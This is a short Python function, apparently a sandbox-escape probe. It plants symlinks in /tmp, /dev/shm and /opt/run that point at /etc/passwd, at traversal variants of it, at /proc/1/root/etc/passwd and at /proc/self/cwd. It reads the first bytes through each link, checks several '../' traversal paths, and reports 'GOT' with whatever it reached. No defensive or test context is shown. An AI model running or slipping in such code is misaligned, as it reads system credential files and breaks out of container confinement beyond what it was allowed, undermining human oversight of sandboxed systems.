import os
def f(n, targets):
    got = []
    for place in ("/tmp/link", "link", "/dev/shm/link", "/opt/run/link"):
        for target in ("/etc/passwd", "/../../../etc/passwd", targets["folder"], "/proc/1/root/etc/passwd", "/proc/self/cwd"):
            try:
                os.symlink(target, place)
                got.append(open(place).read(9))
            except OSError:
                pass
    for path in ("/opt/run/../../../../etc/passwd", "/lib/../etc/passwd", "/usr/lib/os-release/../../../etc/passwd"):
        if os.path.exists(path):
            got.append(path)
    return "GOT " + " ".join(got) if got else 0
